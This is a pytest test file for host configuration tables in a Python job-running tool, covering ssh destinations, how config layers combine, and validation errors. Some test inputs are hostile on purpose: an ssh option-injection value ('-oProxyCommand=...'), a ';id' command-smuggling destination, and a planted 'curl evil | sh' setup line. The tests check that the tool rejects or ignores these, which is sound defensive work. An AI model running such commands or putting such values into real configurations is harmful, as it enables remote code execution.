"""Hosts: [hosts.NAME] tables chosen by the key ``host``, a layer between the profile and the
environment variables; on a host reached over ssh, places stay as written for that host."""

from __future__ import annotations

import json
import os
import re
import warnings
from pathlib import Path

import pytest

from corral.config import ConfigWarning, describe, resolve, set_defaults
from corral.environment import Environment
from corral.errors import ConfigError, ResourceError

from . import test_config

Places = test_config.Places
places = test_config.places  # the fixture: no real config file, variable or default leaks in

HPC = '[hosts.hpc]\nssh = "me@login.hpc.example.org"\npartition = "batch"\n'


def project_file(places: Places, text: str) -> Path:
    path = places.project / "corral.toml"
    path.write_text(text)
    return path


# -- choosing a host -----------------------------------------------------------------------------


def test_a_host_applies_only_when_chosen(places: Places) -> None:
    path = places.write_user(HPC + 'setup = ["module load python"]\n')
    plain = resolve()
    assert (plain.host, plain.ssh, plain.resources.partition) == (None, None, None)
    assert plain.environment == Environment()
    settings = resolve(host="hpc")
    assert (settings.host, settings.ssh, settings.ssh_config) == ("hpc", "me@login.hpc.example.org", None)
    assert settings.resources.partition == "batch"
    assert settings.environment.setup == ("module load python",)
    assert settings.sources["host"] == "options"
    assert settings.sources["ssh"] == settings.sources["partition"] == f"host 'hpc' in {path}"


CHOOSERS = [
    "set_defaults()",
    "user file",
    "project file",
    "user profile",
    "project profile",
    "env",
    "options",
]


@pytest.mark.parametrize("top", range(len(CHOOSERS)), ids=CHOOSERS)
def test_the_highest_layer_that_names_a_host_chooses_it(
    top: int, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    tables = "".join(f"[hosts.h{n}]\npartition = 'p{n}'\n" for n in range(len(CHOOSERS)))
    set_defaults(host="h0")
    user = ['host = "h1"'] if top >= 1 else []
    project = ['host = "h2"'] if top >= 2 else []
    user += ["[profiles.x]"] + (['host = "h3"'] if top >= 3 else [])
    project += ["[profiles.x]"] + (['host = "h4"'] if top >= 4 else [])
    user_path = places.write_user("\n".join(user) + "\n" + tables)
    project_path = project_file(places, "\n".join(project) + "\n")
    if top >= 5:
        monkeypatch.setenv("CORRAL_HOST", "h5")
    settings = resolve(profile="x", **({"host": "h6"} if top >= 6 else {}))
    assert (settings.host, settings.resources.partition) == (f"h{top}", f"p{top}")
    expected = [
        "set_defaults()", str(user_path), str(project_path), f"profile 'x' in {user_path}",
        f"profile 'x' in {project_path}", "CORRAL_HOST", "options",
    ][top]  # fmt: skip
    assert settings.sources["host"] == expected


LAYERS = ["set_defaults()", "user file", "project file", "profile", "host", "env", "options"]


@pytest.mark.parametrize("top", range(len(LAYERS)), ids=LAYERS)
def test_the_host_table_sits_between_the_profile_and_the_variables(
    top: int, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    set_defaults(partition="p0", host="h")
    user = ['partition = "p1"'] if top >= 1 else []
    user += ["[profiles.x]"] + (['partition = "p3"'] if top >= 3 else [])
    user += ["[hosts.h]"] + (['partition = "p4"'] if top >= 4 else [])
    places.write_user("\n".join(user) + "\n")
    project_file(places, 'partition = "p2"\n' if top >= 2 else "")
    if top >= 5:
        monkeypatch.setenv("CORRAL_PARTITION", "p5")
    settings = resolve(profile="x", **({"partition": "p6"} if top >= 6 else {}))
    assert settings.resources.partition == f"p{top}"
    project = places.project / "corral.toml"
    expected = [
        "set_defaults()", str(places.user_file), str(project), f"profile 'x' in {places.user_file}",
        f"host 'h' in {places.user_file}", "CORRAL_PARTITION", "options",
    ][top]  # fmt: skip
    assert settings.sources["partition"] == expected


def test_corral_host_chooses_and_an_option_beats_it(places: Places, monkeypatch: pytest.MonkeyPatch) -> None:
    places.write_user(HPC + "[hosts.laptop]\nbackend = 'local'\n")
    monkeypatch.setenv("CORRAL_HOST", "hpc")
    settings = resolve()
    assert (settings.host, settings.sources["host"]) == ("hpc", "CORRAL_HOST")
    assert resolve(host="laptop").backend == "local"
    monkeypatch.setenv("CORRAL_HOST", " ")  # empty: unset
    assert resolve().host is None


def test_host_false_chooses_none_over_a_lower_layer(places: Places) -> None:
    places.write_user('host = "hpc"\n' + HPC + "[profiles.local]\nhost = false\n")
    assert resolve().ssh == "me@login.hpc.example.org"
    for settings in (resolve(host=False), resolve(profile="local")):
        assert (settings.host, settings.ssh, settings.resources.partition) == (None, None, None)
    set_defaults(host=False)  # the lowest layer: the user file still chooses
    assert resolve().host == "hpc"


def test_an_unknown_host_lists_the_defined_ones_with_a_guess(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    places.write_user(HPC + "[hosts.laptop]\n")
    project = project_file(places, "[hosts.gpu-cluster]\ncpus = 1\n")
    monkeypatch.setenv("CORRAL_HOST", "hcp")
    with pytest.raises(ConfigError) as caught:
        resolve()
    message = str(caught.value)
    assert message.startswith("host 'hcp' (from CORRAL_HOST) is not defined; did you mean 'hpc'?")
    assert "(hosts defined: 'gpu-cluster', 'hpc', 'laptop'; files read: " in message
    assert str(places.user_file) in message and str(project) in message


def test_an_unknown_host_without_any_file(places: Places) -> None:
    set_defaults(host="hpc")
    with pytest.raises(
        ConfigError, match=r"host 'hpc' \(from set_defaults\(\)\) is not defined \(hosts defined: none"
    ):
        resolve()


# -- one host in two files ------------------------------------------------------------------------


def test_a_host_in_both_files_merges_key_by_key_the_projects_over_the_users(places: Places) -> None:
    user = places.write_user(
        '[hosts.hpc]\nssh = "me@login"\npartition = "batch"\naccount = "mine"\nenv = { A = "1", B = "1" }\n'
    )
    project = places.project / "pyproject.toml"
    project.write_text(
        '[tool.corral.hosts.hpc]\naccount = "proj42"\nsetup = ["module load cuda"]\n'
        'env = { B = "2", A = false }\n'
    )
    settings = resolve(host="hpc")
    assert (settings.ssh, settings.resources.partition, settings.resources.account) == (
        "me@login",
        "batch",
        "proj42",
    )
    assert settings.environment.setup == ("module load cuda",)
    assert settings.environment.env_map == {"B": "2"}
    assert settings.sources["ssh"] == f"host 'hpc' in {user}"
    assert settings.sources["account"] == settings.sources["env.B"] == f"host 'hpc' in {project}"
    assert "env.A" not in settings.sources


def test_the_project_can_point_a_host_elsewhere(places: Places) -> None:
    places.write_user('[hosts.hpc]\nssh = "me@old-login"\n')
    project_file(places, '[hosts.hpc]\nssh = "me@new-login:2222"\n')
    assert resolve(host="hpc").ssh == "me@new-login:2222"


# -- places on a remote host ----------------------------------------------------------------------


def test_on_a_remote_host_directory_and_python_stay_as_written(places: Places) -> None:
    places.write_user(
        '[hosts.hpc]\nssh = "hpc"\ndirectory = "~/scratch/corral"\npython = "venv/bin/python"\n'
    )
    project_file(places, '[hosts.near]\nssh = "near"\ndirectory = "runs"\n')
    settings = resolve(host="hpc")
    assert (settings.directory, settings.environment.python) == ("~/scratch/corral", "venv/bin/python")
    assert resolve(host="near").directory == "runs"  # not joined to the project's folder


def test_on_a_remote_host_local_places_below_it_are_ignored(places: Places) -> None:
    set_defaults(directory="/code/runs")
    places.write_user('directory = "runs"\npython = "/opt/py/bin/python"\n[hosts.hpc]\nssh = "hpc"\n')
    project_file(places, '[profiles.p]\ndirectory = "/project/runs"\n')
    settings = resolve(host="hpc", profile="p")
    assert (settings.directory, settings.environment.python) == (None, None)  # the remote default
    assert settings.sources["directory"] == (
        f"profile 'p' in {places.project / 'corral.toml'}, ignored: a local path, and host 'hpc' is remote"
    )
    assert (
        settings.sources["python"] == f"{places.user_file}, ignored: a local path, and host 'hpc' is remote"
    )
    lines = describe(settings).splitlines()
    assert any(
        re.fullmatch(r"directory = None +\(profile 'p' in .*, ignored: a local path, .*\)", x) for x in lines
    )
    assert any(re.fullmatch(r"python = None +\(.*config.toml, ignored: a local path, .*\)", x) for x in lines)
    local = resolve(profile="p")  # no host: the same layers count
    assert (local.directory, local.environment.python) == ("/project/runs", "/opt/py/bin/python")


def test_on_a_remote_host_corral_dir_and_options_set_places_as_written(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    places.write_user('[hosts.hpc]\nssh = "hpc"\ndirectory = "~/from-host"\n')
    monkeypatch.setenv("CORRAL_DIR", "~/from-variable")
    monkeypatch.setenv("CORRAL_PYTHON", "~/venv/bin/python")
    settings = resolve(host="hpc")
    assert (settings.directory, settings.environment.python) == ("~/from-variable", "~/venv/bin/python")
    assert settings.sources["directory"] == "CORRAL_DIR"
    settings = resolve(host="hpc", directory=Path("~/from-option"), python="python3")
    assert (settings.directory, settings.environment.python) == ("~/from-option", "python3")
    monkeypatch.delenv("CORRAL_DIR")
    assert resolve(directory="~/x").directory == str(places.home / "x")  # no host: this machine's home


def test_a_host_without_ssh_is_settings_for_this_machine(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    places.write_user('directory = "elsewhere"\n')
    project = project_file(
        places,
        '[hosts.workstation]\nbackend = "local"\ndirectory = "runs"\npython = ".venv/bin/python"\n'
        "env = { OMP_NUM_THREADS = 8 }\n",
    )
    (places.project / "sub").mkdir()
    monkeypatch.chdir(places.project / "sub")
    settings = resolve(host="workstation")
    assert (settings.host, settings.ssh, settings.backend) == ("workstation", None, "local")
    assert settings.directory == str(places.project / "runs")  # relative to the file, as elsewhere
    assert settings.environment.python == str(places.project / ".venv" / "bin" / "python")
    assert settings.environment.env_map == {"OMP_NUM_THREADS": "8"}
    assert settings.sources["directory"] == f"host 'workstation' in {project}"


def test_ssh_config_is_a_path_on_this_machine(places: Places) -> None:
    places.write_user(
        '[hosts.a]\nssh = "a"\nssh_config = "~/.ssh/corral"\n[hosts.b]\nssh = "b"\nssh_config = "ssh.conf"\n'
    )
    assert resolve(host="a").ssh_config == str(places.home / ".ssh" / "corral")
    settings = resolve(host="b")
    assert settings.ssh_config == str(places.user_file.parent / "ssh.conf")
    assert settings.sources["ssh_config"] == f"host 'b' in {places.user_file}"


def test_ssh_config_without_ssh_is_an_error(places: Places) -> None:
    places.write_user('[hosts.a]\nssh_config = "~/.ssh/corral"\n')
    with pytest.raises(
        ConfigError, match=r"host 'a' has ssh_config \(host 'a' in .*\) but no ssh destination"
    ):
        resolve(host="a")
    resolve()  # not chosen: the table itself is well formed


# -- mistakes ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '[hosts.h]\nssh = "-oProxyCommand=touch /tmp/x"',
            r"key 'ssh' in \[hosts.h\]: ssh='-oProxyCommand=.* is not an ssh",
        ),
        (
            '[hosts.h]\nssh = "me@host name"',
            r"key 'ssh' in \[hosts.h\]: ssh='me@host name' is not an ssh destination",
        ),
        ('[hosts.h]\nssh = "host:99999"', r"key 'ssh' in \[hosts.h\]: ssh='host:99999' is not"),
        ('[hosts.h]\nssh = "host:0"', r"key 'ssh' in \[hosts.h\]: ssh='host:0' is not"),
        ("[hosts.h]\nssh = 3", r"key 'ssh' in \[hosts.h\]: ssh=3 is not an ssh destination"),
        ("[hosts.h]\nssh_config = 3", r"key 'ssh_config' in \[hosts.h\]: ssh_config=3 must be a path"),
        ('[hosts.h]\nssh_config = "a\\nb"', r"key 'ssh_config' in \[hosts.h\]: .* control character"),
        (
            '[hosts.h]\nparition = "x"',
            r"unknown key 'parition' in \[hosts.h\]; did you mean 'partition'\? \(known keys: .*ssh, ssh_",
        ),
        ('[hosts.h]\nhost = "g"', r"unknown key 'host' in \[hosts.h\]"),
        ("[hosts.h]\n[hosts.h.profiles.p]", r"unknown key 'profiles' in \[hosts.h\]"),
        ("[hosts.h]\ncpus = 0", r"key 'cpus' in \[hosts.h\]: cpus=0 must be a positive"),
        ("[hosts.h]\nsetup = 1", r"key 'setup' in \[hosts.h\]: setup=1 must be shell lines"),
        ("hosts = 3", r"\[hosts\] must be a table of hosts, not 3"),
        ("[hosts]\nh = 3", r"host 'h' must be a table \[hosts.h\], not 3"),
        ('ssh = "me@hpc"', r"unknown key 'ssh' at the top level"),
        ("[profiles.p]\nssh_config = 'x'", r"unknown key 'ssh_config' in \[profiles.p\]"),
        ("[profiles.p]\n[profiles.p.hosts.h]", r"unknown key 'hosts' in \[profiles.p\]"),
        ("host = 3", r"key 'host' at the top level: host=3 must be the name of a \[hosts.NAME\] table"),
        ("host = ''", r"key 'host' at the top level: host='' must be the name"),
        ("host = true", r"key 'host' at the top level: host=True must be the name"),
        ("[profiles.p]\nhots = 'h'", r"unknown key 'hots' in \[profiles.p\]; did you mean 'host'\?"),
    ],
)
def test_mistakes_in_files_name_file_table_and_key(places: Places, text: str, expected: str) -> None:
    path = places.write_user(text + "\n")
    with pytest.raises(ConfigError, match=expected) as caught:
        resolve()  # every host table is checked, whether chosen or not
    assert str(caught.value).startswith(f"{path}: ")


def test_mistakes_in_pyproject_name_the_tool_corral_table(places: Places) -> None:
    path = places.project / "pyproject.toml"
    path.write_text('[tool.corral.hosts.hpc]\nssh = "a b"\n')
    with pytest.raises(ConfigError, match=r"key 'ssh' in \[tool.corral.hosts.hpc\]: ssh='a b'") as caught:
        resolve()
    assert str(caught.value).startswith(f"{path}: ")
    path.write_text("[tool.corral]\nhosts = []\n")
    with pytest.raises(ConfigError, match=r"\[tool.corral.hosts\] must be a table of hosts"):
        resolve()


def test_ssh_and_ssh_config_belong_to_host_tables_only(places: Places) -> None:
    with pytest.raises(ResourceError, match="unknown resource option 'ssh'"):
        resolve(ssh="me@hpc")
    with pytest.raises(ConfigError, match=r"set_defaults\(\): unknown key 'ssh_config'"):
        set_defaults(ssh_config="x")
    with pytest.raises(ConfigError, match="host='' must be the name"):
        resolve(host="")
    with pytest.raises(ConfigError, match=r"set_defaults\(\): host=3 must be the name"):
        set_defaults(host=3)


# -- describe and trust ----------------------------------------------------------------------------


def test_describe_shows_the_host_and_how_to_reach_it(places: Places, monkeypatch: pytest.MonkeyPatch) -> None:
    places.write_user(
        '[hosts.hpc]\nssh = "me@login:2222"\nssh_config = "~/.ssh/hpc"\ndirectory = "~/scratch"\n'
        'python = "~/venv/bin/python"\n'
    )
    monkeypatch.setenv("CORRAL_HOST", "hpc")
    lines = {line.split(" = ")[0]: line for line in describe(resolve()).splitlines()}
    source = f"(host 'hpc' in {places.user_file})"
    assert re.fullmatch(r"host = 'hpc' +\(CORRAL_HOST\)", lines["host"])
    assert lines["ssh"].startswith("ssh = 'me@login:2222'") and lines["ssh"].endswith(source)
    assert lines["ssh_config"].startswith(f"ssh_config = '{places.home}/.ssh/hpc'")
    assert lines["directory"].startswith("directory = '~/scratch'") and lines["directory"].endswith(source)
    assert lines["python"].startswith("python = '~/venv/bin/python'")
    monkeypatch.delenv("CORRAL_HOST")
    lines = {line.split(" = ")[0]: line for line in describe(resolve()).splitlines()}
    assert re.fullmatch(r"host = None +\(built-in default\)", lines["host"]) and "ssh" not in lines


def test_a_host_table_in_a_file_others_can_write_is_ignored_with_the_file(places: Places) -> None:
    path = places.write_user('host = "hpc"\n' + HPC)
    path.chmod(0o666)
    with pytest.warns(ConfigWarning, match=rf"{path} is ignored: group or others can write it"):
        assert resolve().host is None  # the file's choice of host went with it
    with pytest.raises(
        ConfigError, match=r"host 'hpc' \(from options\) is not defined \(hosts defined: none"
    ):
        resolve(host="hpc")
    path.chmod(0o600)
    with warnings.catch_warnings():
        warnings.simplefilter("error", ConfigWarning)
        assert resolve().ssh == "me@login.hpc.example.org"


def test_a_project_host_table_another_user_owns_is_ignored(places: Places) -> None:
    uid, gid = test_config.nobody()
    places.write_user('[hosts.hpc]\nssh = "me@login"\n')
    planted = project_file(places, '[hosts.hpc]\nssh = "me@evil.example.org"\nsetup = ["curl evil | sh"]\n')
    os.chown(planted, uid, gid)
    with pytest.warns(ConfigWarning, match="owned by nobody"):
        settings = resolve(host="hpc")
    assert (settings.ssh, settings.environment.setup) == ("me@login", ())


@pytest.mark.parametrize(
    "destination",
    [
        "hpc", "me@hpc", "me@login.hpc.example.org:2222", "login-1", "[::1]", "me@[fe80::1]:22", "a_b.c",
        "-oProxyCommand=x", "-hpc", "me@", "@hpc", "me@hpc:", "hpc:0", "hpc:65536", "hpc:65535", "a b",
        "me@hpc;id", "hpc\n", "", "me@me@hpc", "hpc:22:22", "ssh://hpc",
    ],
)  # fmt: skip
def test_the_config_reads_ssh_destinations_as_the_ssh_transport_does(
    places: Places, destination: str
) -> None:
    from corral.transports.ssh import SshTarget

    try:
        SshTarget.parse(destination)
        transport_takes = True
    except ValueError:
        transport_takes = False
    places.write_user(f"[hosts.h]\nssh = {json.dumps(destination)}\n")
    if transport_takes:
        assert resolve(host="h").ssh == destination
    else:
        with pytest.raises(ConfigError, match="is not an ssh destination"):
            resolve(host="h")


@pytest.mark.parametrize(
    ("backend", "up", "chosen"),
    [("auto", "slurm", "slurm"), ("auto", "sge", "sge"), ("slurm", "slurm", "slurm"), ("sge", "sge", "sge")],
)
def test_a_hosts_scheduler_is_asked_once_whether_auto_chose_it_or_it_was_named(
    places: Places, monkeypatch: pytest.MonkeyPatch, backend: str, up: str, chosen: str
) -> None:
    """auto asks the host which scheduler answers; the one it chose is not asked again."""
    from corral.backends.sge import SgeBackend
    from corral.backends.slurm import SlurmBackend
    from corral.frontends import hosts
    from corral.transports.local import LocalTransport
    from corral.transports.preflight import Preflight

    pings: list[str] = []
    for cls in (SlurmBackend, SgeBackend):
        ping = (lambda name: classmethod(lambda _cls, transport: pings.append(name) or name == up))(cls.name)
        monkeypatch.setattr(cls, "available", ping)
    places.write_user(f'[hosts.h]\nssh = "hpc"\nbackend = "{backend}"\n')
    found = Preflight("login", "me", "/h", "python3", None, "/w")  # type: ignore[arg-type]
    made = hosts.host_backend(resolve(host="h"), hosts.Remote(LocalTransport(), found))  # type: ignore[arg-type]
    assert made.name == chosen
    assert pings.count(chosen) == 1 and pings[-1] == chosen  # auto may ask SLURM first, then SGE
